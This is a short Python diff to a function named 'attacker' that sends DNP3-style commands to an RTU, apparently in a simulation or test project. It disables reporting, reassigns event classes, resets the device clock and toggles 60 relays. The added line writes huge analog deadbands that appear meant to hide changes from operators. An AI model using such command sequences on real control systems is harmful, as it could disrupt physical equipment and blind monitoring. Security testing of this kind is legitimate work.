@@ -126,6 +126,7 @@ def attacker(_address: str) -> None:
     with Line(RTU_1, 1, 10, wait=0.15) as line:
         line.ask(wire.DISABLE, CLASSES)
         line.ask(wire.ASSIGN, wire.everything(60, 1), wire.everything(1, 0), wire.everything(30, 0))
+        line.ask(wire.WRITE, wire.ranged(34, 2, 0, 5, (1_000_000_000).to_bytes(4, "little") * 6))
         line.ask(wire.WRITE, wire.counted(50, 1, wire.time48(946_684_800_000)))
         for index in range(60):
             line.ask(wire.DIRECT_OPERATE, relay(index, LATCH_ON if index % 2 else LATCH_OFF))
